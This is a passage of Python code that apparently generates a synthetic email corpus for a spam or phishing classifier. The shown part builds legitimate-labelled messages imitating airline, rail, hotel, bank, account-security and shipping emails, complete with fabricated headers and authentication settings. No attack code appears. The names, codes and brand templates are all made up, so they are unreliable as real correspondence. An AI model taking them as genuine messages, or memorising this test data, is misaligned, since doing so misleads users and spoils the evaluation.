    dep = d + dt.timedelta(days=R.randint(10, 60))
    conf = rs(6, string.ascii_uppercase)
    text, html = txn('DELTA', '#003366', 'Your Flight Receipt - HARTLEY/DEVIN %s' % dep.strftime('%d%b%y').upper(),
                     ['Thank you for choosing Delta. We encourage you to review this receipt and your trip details.'],
                     rows=[('Confirmation #', conf), ('Flight', 'DL 1492  JFK → SLC  %s 7:05am - 10:21am' % dep.strftime('%a %d%b')),
                           ('Return', 'DL 2311  SLC → JFK  %s 12:40pm - 7:02pm' % (dep + dt.timedelta(days=5)).strftime('%a %d%b')),
                           ('Fare', 'Main Cabin (V)'), ('Ticket #', '006' + rdig(10)), ('Base fare', '$%s' % money(280, 420)),
                           ('Taxes & carrier-imposed fees', '$%s' % money(40, 70))],
                     cta='Check in', url=trk('sfmc', 't.delta.com'),
                     after=['Baggage: first checked bag $35, second $45 for Main Cabin on this itinerary.',
                            'SkyMiles: Earn miles on this trip when you add your SkyMiles number.'],
                     footer=['Delta Air Lines, Inc., P.O. Box 20706, Atlanta, GA 30320-6001'], variant=1)
    add('ham', 'Delta Air Lines flight receipt', frm=('Delta Air Lines', 'DeltaAirLines@t.delta.com'), to=who('devin'),
        subject='Your Flight Receipt - HARTLEY/DEVIN %s' % dep.strftime('%d%b%y').upper(), date=d, infra='sfmc', esp_sub='t.delta.com',
        dkim_dom='t.delta.com', text=text, html=html)

    # United check-in
    d = rdate()
    text, html = txn('UNITED', '#002244', "It's time to check in for your flight to Denver",
                     ['Check in now and save time at the airport.'],
                     rows=[('Confirmation number', rs(6, string.ascii_uppercase + string.digits)), ('Flight', 'UA 1836'),
                           ('Depart', 'Newark (EWR) %s' % (d + dt.timedelta(hours=23)).strftime('%a, %b %-d %-I:%M %p')),
                           ('Arrive', 'Denver (DEN)'), ('Seat', '23C')],
                     cta='Check in', url=trk('sfmc', 'news.united.com'),
                     after=['Travel tip: Add your boarding pass to your phone\'s wallet from the United app.'],
                     footer=['United Airlines, Inc., 233 S. Wacker Drive, Chicago, IL 60606'])
    add('ham', 'United Airlines check-in reminder', frm=('United Airlines', 'unitedairlines@news.united.com'), to=who('hollis'),
        subject='Check in now for your flight to Denver', date=d, infra='sfmc', esp_sub='news.united.com', dkim_dom='news.united.com',
        text=text, html=html)

    # Lufthansa (German, ISO-8859-1, QP)
    d = rdate(off=1)
    dep = d + dt.timedelta(days=R.randint(20, 70))
    code = rs(6, string.ascii_uppercase + string.digits)
    text = '''Sehr geehrte Frau Vogelsang,

vielen Dank für Ihre Buchung. Nachfolgend finden Sie eine Übersicht Ihrer Reise.

Buchungscode: %s

Hinflug
LH 1166  Frankfurt (FRA) - Lissabon (LIS)
%s, Abflug 09:35, Ankunft 11:35
Economy Light, Sitzplatzreservierung möglich

Rückflug
LH 1171  Lissabon (LIS) - Frankfurt (FRA)
%s, Abflug 18:20, Ankunft 22:15

Gesamtpreis: EUR %s

Ihren Online Check-in können Sie 23 Stunden vor Abflug unter https://www.lufthansa.com/de/de/online-check-in vornehmen.

Buchung verwalten: https://www.lufthansa.com/de/de/meine-buchungen?pnr=%s

Wir wünschen Ihnen einen angenehmen Flug.

Ihr Lufthansa Team

Deutsche Lufthansa AG, Venloer Straße 151-153, 50672 Köln
Registereintragung: Amtsgericht Köln HRB 2168
''' % (code, dep.strftime('%d.%m.%Y'), (dep + dt.timedelta(days=6)).strftime('%d.%m.%Y'), money(180, 320).replace('.', ','), code)
    add('ham', 'Lufthansa German booking confirmation, ISO-8859-1 QP', frm=('Lufthansa', 'online@booking-lufthansa.com'), to=P['katrin'],
        subject='Ihre Buchungsbestätigung – Frankfurt nach Lissabon (%s)' % code, date=d, infra='sparkpost', text=text,
        charset='iso-8859-1', text_cte='quoted-printable', hcs='iso-8859-1')

    # SNCF Connect (French) with PDF e-ticket
    d = rdate(off=1)
    dep = d + dt.timedelta(days=R.randint(3, 30))
    ref = rs(6, string.ascii_uppercase)
    pdf = make_pdf(['SNCF Connect - E-billet', 'Référence dossier : %s' % ref, 'Paris Gare de Lyon -> Lyon Part-Dieu',
                    'TGV INOUI 6617 - %s - départ 08:56' % dep.strftime('%d/%m/%Y'), 'Voiture 14 - Place 83 - 2nde classe',
                    'Passager : Lucas MOREAU', 'Présentez ce billet au contrôleur.'], title='E-billet', author='SNCF Connect', d=d)
    text, html = txn('SNCF Connect', '#0c131f', 'Votre confirmation de commande',
                     ['Bonjour Lucas,', 'Bonne nouvelle, votre voyage est réservé ! Vos billets sont en pièce jointe et disponibles dans l\'application SNCF Connect.'],
                     rows=[('Référence', ref), ('Aller', 'Paris Gare de Lyon → Lyon Part-Dieu'), ('Date', dep.strftime('%d/%m/%Y') + ' à 08h56'),
                           ('Train', 'TGV INOUI 6617'), ('Voiture / place', '14 / 83'), ('Montant payé', '%s €' % money(29, 95).replace('.', ','))],
                     after=['Échange et remboursement sans frais jusqu\'à 3 jours avant le départ.'],
                     footer=['SNCF Voyageurs, 9 rue Jean-Philippe Rameau, 93200 Saint-Denis'], lang='fr')
    add('ham', 'SNCF Connect French train booking with e-ticket PDF', frm=('SNCF Connect', 'confirmation@sncf-connect.com'), to=P['lucas'],
        subject='Votre confirmation de commande : Paris → Lyon le %s' % dep.strftime('%d/%m'), date=d, infra='ses', region='eu-west-1',
        text=text, html=html, attachments=[attach(pdf, 'application/pdf', 'E-billet_%s.pdf' % ref)])

    # Renfe (Spanish, ISO-8859-1 8bit)
    d = rdate(off=1)
    dep = d + dt.timedelta(days=R.randint(2, 20))
    loc = rs(6, string.ascii_uppercase + string.digits)
    text = '''Estimado/a cliente:

Le confirmamos la compra de los siguientes billetes:

Localizador: %s
Trayecto: MADRID PUERTA DE ATOCHA - BARCELONA-SANTS
Fecha: %s
Tren: AVE %d   Salida: 07:30   Llegada: 10:10
Coche: 6   Plaza: 09A   Clase: Estándar
Viajero: JAVIER SOTO

Importe total: %s EUR

Puede consultar, cambiar o anular su billete en https://www.renfe.com/es/es/viajar/informacion-util/gestiona-tu-compra

Le recordamos que el acceso al tren se cierra 2 minutos antes de la salida.

Gracias por elegir Renfe.

Este correo se ha enviado de forma automática. Por favor, no responda a este mensaje.
Renfe Viajeros S.M.E., S.A. - Avenida Pío XII, 110 - 28036 Madrid
''' % (loc, dep.strftime('%d/%m/%Y'), R.randint(3000, 3999), money(35, 98).replace('.', ','))
    add('ham', 'Renfe Spanish train ticket confirmation, ISO-8859-1 8bit', frm=('Renfe', 'venta@renfe.es'), to=P['javier'],
        subject='Confirmación de compra - Localizador %s' % loc, date=d, infra='postfix', host='smtp2.renfe.es', text=text,
        charset='iso-8859-1', text_cte='8bit', hcs='iso-8859-1', dmarc_p='quarantine')

    # Marriott
    d = rdate()
    ci = d + dt.timedelta(days=R.randint(7, 40))
    conf = rdig(8)
    text, html = txn('MARRIOTT BONVOY', '#b84c16', 'Reservation Confirmation #%s' % conf,
                     ['Dear Raj Menon,', 'Thank you for booking with us. We look forward to welcoming you to Courtyard Seattle Downtown/Pioneer Square.'],
                     rows=[('Check-in', ci.strftime('%A, %B %-d, %Y') + ' 03:00 PM'), ('Check-out', (ci + dt.timedelta(days=2)).strftime('%A, %B %-d, %Y') + ' 12:00 PM'),
                           ('Room type', '1 King Bed, Guest Room'), ('Rate', 'Marriott Bonvoy Member Rate'), ('Estimated total', '$%s USD' % money(390, 620))],
                     cta='Modify or cancel', url=trk('sfmc', 'email.marriott.com'),
                     after=['Cancellation: You may cancel your reservation for no charge until 11:59 PM local hotel time, 1 day prior to arrival.'],
                     footer=['Marriott International, Inc., 7750 Wisconsin Avenue, Bethesda, MD 20814'])
    add('ham', 'Marriott hotel reservation confirmation', frm=('Marriott Bonvoy', 'MarriottBonvoy@email.marriott.com'), to=who('raj'),
        subject='Reservation Confirmation #%s for Courtyard Seattle Downtown/Pioneer Square' % conf, date=d, infra='sfmc',
        esp_sub='email.marriott.com', dkim_dom='email.marriott.com', text=text, html=html)


# ============================================================================
# HAM 5: bank and card alerts (8)
# ============================================================================
def ham_bank():
    d = rdate()
    amt = money(20, 260)
    merch = pick(['TRADER JOE\'S #552', 'SHELL OIL 5744', 'COSTCO WHSE #0117', 'WHOLEFDS MKT 10235'])
    text, html = txn('CHASE', '#117aca', 'You made a $%s transaction with %s' % (amt, merch),
                     ['Account: Chase Sapphire Preferred (...%s)' % rdig(4)],
                     rows=[('Date', d.strftime('%b %-d, %Y at %-I:%M %p ET')), ('Merchant', merch), ('Amount', '$' + amt)],
                     after=["You are receiving this alert because you chose to get notified of transactions over $0.00. You can change your alert settings at any time in the Chase Mobile app or on chase.com.",
                            'Do not reply to this alert. If you have questions, call the number on the back of your card.'],
                     footer=['JPMorgan Chase Bank, N.A. Member FDIC', '© 2025 JPMorgan Chase & Co.'])
    add('ham', 'Chase card transaction alert', frm=('Chase', 'no.reply.alerts@chase.com'), to=who('jonah'),
        subject='You made a $%s transaction with %s' % (amt, merch), date=d, infra='postfix', host='mail-n1.alerts.chase.com',
        selector='chase2024', text=text, html=html, dmarc_p='reject')

    d = rdate()
    amt = money(60, 480)
    text = '''Capital One

A purchase was made on your Venture Rewards card ending in %s.

Amount: $%s
Merchant: DELTA AIR 0062371654
Date: %s

If you made this purchase, no action is needed. If you don't recognize it, sign in to the Capital One Mobile app or call 1-800-227-4825 right away.

Manage your alerts: https://verified.capitalone.com/auth/signin

This email was sent by Capital One. Please don't reply to it.
Capital One, 1680 Capital One Drive, McLean, VA 22102
''' % (rdig(4), amt, d.strftime('%B %-d, %Y'))
    add('ham', 'Capital One purchase alert, plain text', frm=('Capital One', 'capitalone@notification.capitalone.com'), to=who('devin'),
        subject='A new transaction was charged to your account', date=d, infra='sfmc', esp_sub='notification.capitalone.com',
        dkim_dom='notification.capitalone.com', text=text)

    d = rdate()
    amt = money(900, 3800)
    text, html = txn('AMERICAN EXPRESS', '#006fcf', 'Large Purchase Approved',
                     ['Hi Leah, we approved a large purchase on your account.'],
                     rows=[('Card', 'Business Platinum Card® ending in %s' % rdig(5)), ('Merchant', 'APPLE.COM/BILL'),
                           ('Amount', '$' + amt), ('Date', d.strftime('%a, %b %-d, %Y'))],
                     after=['If you recognize this purchase, you don\'t need to do anything.',
                            'If you don\'t recognize it, please review your account or call us at the number on the back of your Card.'],
                     cta='Review Account', url='https://www.americanexpress.com/en-us/account/login?inav=iNavLnkLog',
                     footer=['American Express, 200 Vesey Street, New York, NY 10285', 'Your account ending in %s' % rdig(5)])
    add('ham', 'American Express large purchase notification', frm=('American Express', 'AmericanExpress@welcome.americanexpress.com'),
        to=who('leah'), subject='Large Purchase Approved', date=d, infra='sfmc', esp_sub='welcome.americanexpress.com',
        dkim_dom='welcome.americanexpress.com', text=None, html=html)

    d = rdate()
    amt = money(1800, 4800)
    text, html = txn('BANK OF AMERICA', '#e31837', 'Your Direct Deposit has posted',
                     ['Nadia, a direct deposit was posted to your account.'],
                     rows=[('Account', 'Adv Plus Banking - %s' % rdig(4)), ('Amount', '$' + amt), ('From', 'BLUEFEN ANALYTI PAYROLL'),
                           ('Posted', d.strftime('%m/%d/%Y'))],
                     after=['This is a service email from Bank of America. Please note that you may receive service emails in accordance with your Bank of America service agreements, whether or not you elect to receive promotional email.',
                            'Want to stop receiving these alerts? Sign in to Online Banking and go to Alerts.'],
                     footer=['Bank of America, N.A. Member FDIC. Equal Housing Lender', 'Bank of America Email, NC1-028-09-01, 150 N College St., Charlotte, NC 28255'])
    add('ham', 'Bank of America direct deposit alert', frm=('Bank of America', 'onlinebanking@ealerts.bankofamerica.com'), to=who('nadia'),
        subject='Your Direct Deposit has posted', date=d, infra='postfix', host='mta3.ealerts.bankofamerica.com', text=text, html=html,
        dmarc_p='reject')

    d = rdate(off=0)
    mon = (d.replace(day=1) - dt.timedelta(days=1)).strftime('%B')
    text, html = txn('Revolut', '#191c1f', 'Your %s statement is ready' % mon,
                     ['Hi Priya,', 'Your monthly account statement for %s is now available in the app. You can download it as a PDF or Excel file from Accounts > Statements.' % mon],
                     after=['Revolut Ltd is registered in England and Wales (08804411), 30 South Colonnade, London, E14 5HX.'],
                     footer=['You received this service email because you have a Revolut account.'], variant=2)
    add('ham', 'Revolut monthly statement available', frm=('Revolut', 'no-reply@revolut.com'), to=who('priya'),
        subject='Your %s statement is ready' % mon, date=d, infra='sendgrid', text=text, html=html)

    d = rdate(off=0)
    text = '''Hi Iris,

Your new Monzo card is on its way! It should arrive within 3-5 working days.

When it arrives, you'll need to activate it in the app before you can use it. Just tap the card in the Home tab and follow the steps.

Your old card will keep working until you activate the new one.

If it hasn't arrived by %s, let us know in the app and we'll sort it out.

Monzo

Monzo Bank Limited, Broadwalk House, 5 Appold St, London EC2A 2AG. Monzo Bank Limited is authorised by the Prudential Regulation Authority and regulated by the Financial Conduct Authority and the Prudential Regulation Authority.
''' % (d + dt.timedelta(days=8)).strftime('%-d %B')
    add('ham', 'Monzo replacement card dispatched', frm=('Monzo', 'help@monzo.com'), to=who('iris'),
        subject='Your new card is on its way 💳', date=d, infra='mailgun', text=text)

    d = rdate(off=2)
    mon = DE_MONTHS[(d.month - 2) % 12]
    text, html = txn('N26', '#36a18b', 'Dein Kontoauszug ist verfügbar',
                     ['Hallo Felix,', 'dein Kontoauszug für %s steht ab sofort in der N26 App unter "Mein Konto > Kontoauszüge" zum Download bereit.' % mon,
                      'Aus Sicherheitsgründen senden wir dir keine Kontoauszüge per E-Mail.'],
                     after=['Viele Grüße', 'Dein N26 Team'],
                     footer=['N26 Bank SE, Voltairestraße 8, 10179 Berlin', 'Amtsgericht Charlottenburg HRB 170602 B'], lang='de')
    add('ham', 'N26 German statement available notice', frm=('N26', 'no-reply@n26.com'), to=P['felix'],
        subject='Dein Kontoauszug für %s ist verfügbar' % mon, date=d, infra='ses', region='eu-west-1', text=text, html=html)

    d = rdate()
    amt = money(520, 1400)
    text, html = txn('WELLS FARGO', '#d71e28', 'Card purchase exceeded your alert limit',
                     ['A purchase on your Wells Fargo debit card ending in %s exceeded the limit you set for alerts.' % rdig(4)],
                     rows=[('Amount', '$' + amt), ('Merchant', 'BEST BUY 00004312'), ('Date', d.strftime('%m/%d/%Y')), ('Your alert limit', '$500.00')],
                     after=['To view your account activity or change alert settings, sign on to wellsfargo.com.',
                            'Please do not reply to this automated email.'],
                     footer=['Wells Fargo Bank, N.A. Member FDIC.', '%s' % rhex(10).upper()])
    add('ham', 'Wells Fargo debit card alert', frm=('Wells Fargo Online', 'alerts@notify.wellsfargo.com'), to=who('hollis'),
        subject='Wells Fargo card purchase exceeded your alert limit', date=d, infra='postfix', host='mx4.notify.wellsfargo.com',
        text=text, html=html, dmarc_p='reject')


# ============================================================================
# HAM 6: security notifications the user expects (10)
# ============================================================================
def ham_security():
    d = rdate()
    dev = pick(['Mac', 'Windows', 'iPhone', 'Pixel 9'])
    text, html = txn('Google', '#1a73e8', 'A new sign-in on %s' % dev,
                     ['maya@northfield-studio.example',
                      "We noticed a new sign-in to your Google Account on a %s device. If this was you, you don't need to do anything. If not, we'll help you secure your account." % dev],
                     cta='Check activity', url='https://accounts.google.com/AccountChooser?Email=maya@northfield-studio.example&continue=https://myaccount.google.com/alert/nt/%d?rfn%%3D325' % int(d.timestamp() * 1000),
                     after=['You can also see security activity at https://myaccount.google.com/notifications',
                            'You received this email to let you know about important changes to your Google Account and services.'],
                     footer=['© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA'], variant=2)
    add('ham', 'Google new sign-in security alert', frm=('Google', 'no-reply@accounts.google.com'), to=who('maya'),
        subject='Security alert', date=d, infra='google', text=text, html=html, dmarc_p='reject',
        msgid='<%s-%s@google.com>' % (rb64u(16), d.strftime('%Y%m%d')))

    d = rdate()
    code = sms_code(6)
    text = '''Microsoft account

Security code

Please use the following security code for the Microsoft account gr**@oakmere-consulting.example.

Security code: %s

If you don't recognize the Microsoft account gr**@oakmere-consulting.example, you can click https://account.live.com/dp?ft=%s to remove your email address from that account.

Thanks,
The Microsoft account team
''' % (code, rb64u(80))
    add('ham', 'Microsoft account security code (OTP) requested by user', frm=('Microsoft account team', 'account-security-noreply@accountprotection.microsoft.com'),
        to=who('grace'), subject='Microsoft account security code', date=d, infra='m365', text=text,
        html='<html><body><table dir="ltr"><tr><td style="font-family:\'Segoe UI Semibold\',\'Segoe UI Bold\',\'Segoe UI\',\'Helvetica Neue Medium\',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>'
             '<tr><td style="font-family:\'Segoe UI Light\',\'Segoe UI\',\'Helvetica Neue Medium\',Arial,sans-serif;font-size:41px;color:#2672ec;">Security code</td></tr>'
             '<tr><td style="padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Please use the following security code for the Microsoft account <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:gr**@oakmere-consulting.example">gr**@oakmere-consulting.example</a>.</td></tr>'
             '<tr><td style="padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Security code: <span style="font-family:\'Segoe UI Bold\',\'Segoe UI Semibold\',Arial,sans-serif;font-size:14px;font-weight:bold;color:#2a2a2a;">%s</span></td></tr>'
             '<tr><td style="padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Thanks,</td></tr>'
             '<tr><td style="font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The Microsoft account team</td></tr></table></body></html>\n' % code,
        dmarc_p='reject', tenant='microsoft')

    d = rdate()
    text, html = txn('Apple', '#000000', 'Your Apple Account was used to sign in to iCloud via a web browser.',
                     ['Dear Ellie,', 'Your Apple Account (ellie@marlowe-home.example) was used to sign in to iCloud via a web browser.'],
                     rows=[('Date and Time', d.strftime('%B %-d, %Y, %-I:%M %p') + ' PDT'), ('Browser', 'Safari'), ('Operating System', 'macOS')],
                     after=['If the information above looks familiar, you can disregard this email.',
                            'If you have not signed in to iCloud recently and believe someone may have accessed your account, go to Apple Account (https://account.apple.com) and change your password as soon as possible.',
                            'Apple Support'],
                     footer=['Apple Account | Support | Privacy Policy', 'Copyright © 2025 One Apple Park Way, Cupertino, CA 95014, United States. All rights reserved.'])
    add('ham', 'Apple iCloud web sign-in notification', frm=('Apple', 'noreply@email.apple.com'), to=who('ellie'),
        subject='Your Apple Account was used to sign in to iCloud via a web browser', date=d, infra='postfix',
        host='rn-mailsvcp-mta-lapp01.rno.apple.com', dkim_dom='email.apple.com', selector='email0517', text=text, html=html, dmarc_p='reject')

    d = rdate()
    tok = rs(40, LOWER)
    text = '''We heard that you lost your GitHub password. Sorry about that!

But don't worry! You can use the following button to reset your password:

https://github.com/password_reset/%s

If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset

Thanks,
The GitHub Team

You're receiving this email because a password reset was requested for your account.

---

GitHub, Inc. ・88 Colin P Kelly Jr Street ・San Francisco, CA 94107
''' % tok
    add('ham', 'GitHub password reset the user requested', frm=('GitHub', 'noreply@github.com'), to=who('tom'),
        subject='[GitHub] Please reset your password', date=d, infra='github',
        msgid='<%s.%s@github.com>' % (rhex(16), 'password_reset'), text=text, dmarc_p='reject', with_sender=False)

    d = rdate()
    text, html = txn('Dropbox', '#0061ff', 'Verify your email address',
                     ['Hi Owen,', 'Please verify your email address so we know it\'s really you.'],
                     cta='Verify your email', url='https://www.dropbox.com/l/AAD%s/emails/verify_email' % rs(40, ALNUM + '_-'),
                     after=['If you didn\'t sign up for Dropbox, you can ignore this email.', 'Thanks!', '- The Dropbox Team'],
                     footer=['Dropbox, Inc., 1800 Owens St, San Francisco, CA 94158'])
    add('ham', 'Dropbox verify email after signup', frm=('Dropbox', 'no-reply@dropbox.com'), to=who('owen'),
        subject='Verify your email address', date=d, infra='sendgrid', text=text, html=html)

    d = rdate()
    code = '%s-%s' % (rs(3, string.ascii_uppercase + string.digits), rs(3, string.ascii_uppercase + string.digits))
    text, html = txn('slack', '#4a154b', 'Confirm your email address',
                     ['Your confirmation code is below - enter it in your open browser window and we\'ll help you get signed in.', code],
                     after=['If you didn\'t request this email, there\'s nothing to worry about - you can safely ignore it.'],
                     footer=['Slack Technologies, LLC, 415 Mission Street, 3rd Floor, San Francisco, CA 94105'], variant=2)
    add('ham', 'Slack sign-in confirmation code', frm=('Slack', 'feedback@slack.com'), to=who('ana'),
        subject='Slack confirmation code: %s' % code, date=d, infra='ses', text=text, html=html)

    d = rdate()
    pin = sms_code(6)
    text = '''Hi Raj,

Please use this verification code to complete your sign in: %s

If you didn't try to sign in, we recommend that you change your password: https://www.linkedin.com/psettings/change-password

Thanks for helping us keep your account secure.
The LinkedIn Team

This email was intended for Raj Menon (Principal Consultant at Oakmere Consulting)
Learn why we included this: https://www.linkedin.com/help/linkedin/answer/4788
© 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.
''' % pin
    add('ham', 'LinkedIn sign-in verification code', frm=('LinkedIn', 'security-noreply@linkedin.com'), to=who('raj'),
        subject='Raj, here\'s your verification code %s' % pin, date=d, infra='postfix', host='maile-ea.linkedin.com', selector='d2048-2',
        text=text, dmarc_p='reject')

    d = rdate()
    otp = sms_code(6)
    text, html = txn('amazon', '#232f3e', 'Password assistance',
                     ['To authenticate, please use the following One Time Password (OTP):', otp,
                      "Don't share this OTP with anyone. Our customer service team will never ask you for your password, OTP, credit card, or banking info."],
                     after=['We hope to see you again soon.'], footer=['Amazon.com, 410 Terry Ave N, Seattle, WA 98109'])
    add('ham', 'Amazon password reset OTP the user requested', frm=('Amazon.com', 'account-update@amazon.com'), to=who('dana'),
        subject='Amazon password assistance', date=d, infra='ses', mailfrom_dom='amazon.com', text=text, html=html)

    d = rdate()
    text, html = txn('Discord', '#5865f2', 'Hey ellie.m,',
                     ['Thanks for registering for an account on Discord! Before we get started, we just need to confirm that this is you. Click below to verify your email address:'],
                     cta='Verify Email', url='https://click.discord.com/ls/click?upn=u001.%s' % rb64u(120),
                     footer=['Sent by Discord • check our blog • @discord', '444 De Haro Street, Suite 200, San Francisco, CA 94107'], variant=2)
    add('ham', 'Discord verify email address after registration', frm=('Discord', 'noreply@discord.com'), to=who('ellie'),
        subject='Verify Email Address for Discord', date=d, infra='sendgrid', text=text, html=html)

    d = rdate()
    text, html = txn('okta', '#00297a', 'New sign-on notification',
                     ['Hi Devin,', 'Your Northfield Studio account was just used to sign in from a new device or location.'],
                     rows=[('Date', d.strftime('%B %-d, %Y %-I:%M:%S %p')), ('Browser', 'Chrome 139.0'), ('OS', 'macOS'),
                           ('Location', 'Brooklyn, New York, United States'), ('IP address', rip())],
                     after=['If this was you, no further action is needed.',
                            "If you don't recognize this activity, contact your administrator at it@northfield-studio.example or sign in and reset your password."],
                     cta='Sign in to Okta', url='https://northfield-studio.okta.com',
                     footer=['This is an automatically generated message from Okta. Replies are not monitored or answered.'])
    add('ham', 'Okta corporate new sign-on notification', frm=('Okta', 'noreply@okta.com'), to=who('devin'),
        subject='New sign-on notification', date=d, infra='ses', text=text, html=html)


# ============================================================================
# HAM 7: shipping notices (8)
# ============================================================================
def ham_shipping():
    d = rdate()
    tn = '1Z%s%s' % (rs(6, string.ascii_uppercase + string.digits), rdig(10))
    text, html = txn('UPS', '#351c15', 'Your package is scheduled for delivery today',
                     ['Hi, Jonah Marlowe. Your package is on the truck and will be delivered today.'],
                     rows=[('Scheduled Delivery', d.strftime('%A, %m/%d/%Y') + ', by End of Day'), ('Tracking Number', tn),
                           ('Ship To', 'PORTLAND, OR, US'), ('Shipped By', 'REI'), ('Number of Packages', '1')],
                     cta='Track Your Package', url='https://www.ups.com/track?loc=en_US&tracknum=%s&requester=ST/trackdetails' % tn,
                     after=['Want to reroute or reschedule? Sign up for UPS My Choice® to manage your deliveries.'],
                     footer=['© 2025 United Parcel Service of America, Inc. UPS, the UPS brandmark, and the color brown are trademarks of United Parcel Service of America, Inc.',
                             'This is an automatically generated message. Replies are not monitored.'])
    add('ham', 'UPS out-for-delivery notification', frm=('UPS', 'mcinfo@ups.com'), to=who('jonah'),
        subject='UPS Update: Package Scheduled for Delivery Today', date=d, infra='postfix', host='mail9.ups.com', text=text, html=html,
        dmarc_p='reject')

    d = rdate()
    tn = rdig(12)
    text, html = txn('FedEx', '#4d148c', 'Your package is on its way',
                     ['Hi Ana, your shipment from B&H Photo is in transit.'],
                     rows=[('Tracking ID', tn), ('Scheduled delivery', (d + dt.timedelta(days=2)).strftime('%A, %-m/%-d/%y') + ' by 8:00 PM'),
                           ('Ship from', 'NEW YORK, NY'), ('Service', 'FedEx Ground')],
                     cta='Track package', url='https://www.fedex.com/fedextrack/?trknbr=%s&trkqual=%s~%s~FDEG' % (tn, rdig(13), tn),
                     after=['Sign up for FedEx Delivery Manager to customize your deliveries.'],
                     footer=['© 2025 FedEx. The content of this message is protected by copyright and trademark laws under U.S. and international law.'])
    add('ham', 'FedEx in-transit notification', frm=('FedEx Delivery Manager', 'TrackingUpdates@fedex.com'), to=who('ana'),
        subject='Your package is on its way. Scheduled delivery %s' % (d + dt.timedelta(days=2)).strftime('%A'), date=d, infra='postfix',
        host='mxout5.fedex.com', text=text, html=html, dmarc_p='reject')

    # USPS Informed Delivery with inline scans
    d = rdate(hours=(6, 9))
    imgs = []
    rel = []
    for i in range(R.randint(2, 4)):
        cid, part = img_cid(png_gray([[235 - ((x * 3 + y * 5) % 40 if 10 < x < 170 and 10 < y < 70 else 0) for x in range(180)] for y in range(80)]),
                            'mailpiece%d.png' % (i + 1))
        imgs.append(cid)
        rel.append(part)
    inner = ('<div style="font-family:Arial,sans-serif;max-width:600px;margin:0 auto">'
             '<h2 style="color:#333366">Your Daily Digest for %s</h2><p>You have %d mailpieces arriving soon.</p>%s'
             '<p>You have 1 package arriving soon. <a href="https://informeddelivery.usps.com/box/pages/secure/DashboardAction_input.action?selectedDate=%s">See your dashboard</a></p>'
             '<p style="font-size:11px;color:#777">Informed Delivery® is a free service from USPS. Mailpiece images are for informational purposes only. '
             'Please do not reply to this message. This email was sent to priya@marlowe-home.example.</p></div>') % (
        d.strftime('%a, %-m/%-d'), len(imgs),
        ''.join('<div style="margin:12px 0"><img src="cid:%s" width="360" alt="Scanned image of your mail piece"><br><span style="font-size:12px">FROM: %s</span></div>' % (c, pick(['CITY OF PORTLAND', 'KAISER PERMANENTE', 'CHASE', 'AARP', 'PORTLAND PUBLIC SCHOOLS', 'STATE FARM'])) for c in imgs),
        d.strftime('%m/%d/%Y'))
    html = html_page(inner, 'Informed Delivery Daily Digest')
    text = 'Your Daily Digest for %s\n\nYou have %d mailpieces arriving soon. Images are available in the HTML version of this email or on your dashboard:\nhttps://informeddelivery.usps.com\n' % (d.strftime('%a, %-m/%-d'), len(imgs))
    add('ham', 'USPS Informed Delivery digest with inline scan images', frm=('USPS Informed Delivery', 'USPSInformeddelivery@email.informeddelivery.usps.com'),
        to=who('priya'), subject='Your Daily Digest for %s is ready to view' % d.strftime('%a, %-m/%-d'), date=d, infra='sfmc',
        esp_sub='email.informeddelivery.usps.com', dkim_dom='email.informeddelivery.usps.com', text=text, html=html, related=rel)

    # DHL German, ISO-8859-1
    d = rdate(off=2)
    sn = rdig(12)
    text = '''Hallo Katrin Vogelsang,

gute Nachrichten: Ihr Paket kommt heute.

Sendungsnummer: %s
Absender: Manufactum GmbH
Voraussichtliche Zustellung: heute, %s, zwischen 11:30 und 14:30 Uhr

Sie sind nicht zu Hause? Ändern Sie jetzt die Zustellung, z. B. an eine Packstation, eine Filiale oder einen Ablageort:
https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode=%s

Freundliche Grüße
Ihr DHL Paket Team

Deutsche Post AG, Charles-de-Gaulle-Str. 20, 53113 Bonn
Diese E-Mail wurde automatisch erstellt. Antworten an diese Adresse können nicht bearbeitet werden.
''' % (sn, d.strftime('%d.%m.%Y'), sn)
    add('ham', 'DHL German same-day delivery notice, ISO-8859-1', frm=('DHL Paket', 'noreply@dhl.de'), to=P['katrin'],
        subject='Ihr DHL Paket kommt heute', date=d, infra='postfix', host='mailout2.dhl.de', text=text, charset='iso-8859-1',
        text_cte='quoted-printable', hcs='iso-8859-1', dmarc_p='reject')

    # Amazon shipped
    d = rdate()
    on = '11%d-%s-%s' % (R.randint(1, 4), rdig(7), rdig(7))
    text, html = txn('amazon', '#ff9900', 'Your package has shipped!',
                     ['Hi Dana, your package with "Anker Nano Power Bank..." and 2 more items has shipped.'],
                     rows=[('Arriving', (d + dt.timedelta(days=1)).strftime('%A')), ('Order #', on), ('Carrier', 'Amazon Logistics')],
                     cta='Track package', url='https://www.amazon.com/gp/your-account/ship-track?ie=UTF8&orderId=%s&packageIndex=0&shipmentId=%s' % (on, rs(9)),
                     footer=['©2025 Amazon.com, Inc. or its affiliates. 410 Terry Avenue N., Seattle, WA 98109.'])
    add('ham', 'Amazon shipment notification', frm=('Amazon.com', 'shipment-tracking@amazon.com'), to=who('dana'),
        subject='Shipped: "Anker Nano Power Bank..." and 2 more items', date=d, infra='ses', mailfrom_dom='amazon.com', text=text, html=html)

    # Outdoor Voices via AfterShip click tracker
    d = rdate()
    tn = '9400' + rdig(18)
    trackurl = 'https://click.aftership.com/ls/click?upn=u001.%s' % rb64u(110)
    text, html = txn('OUTDOOR VOICES', '#1c1c1c', 'Your order is on the way',
                     ['Hi Iris! Good news: your order #OV%s has shipped and is headed your way.' % rdig(6)],
                     rows=[('Carrier', 'USPS'), ('Tracking number', tn), ('Estimated delivery', (d + dt.timedelta(days=4)).strftime('%b %-d'))],
                     cta='Track my order', url=trackurl,
                     after=['Questions? Reply to this email or visit our help center.'], footer=['Outdoor Voices, Austin, TX'])
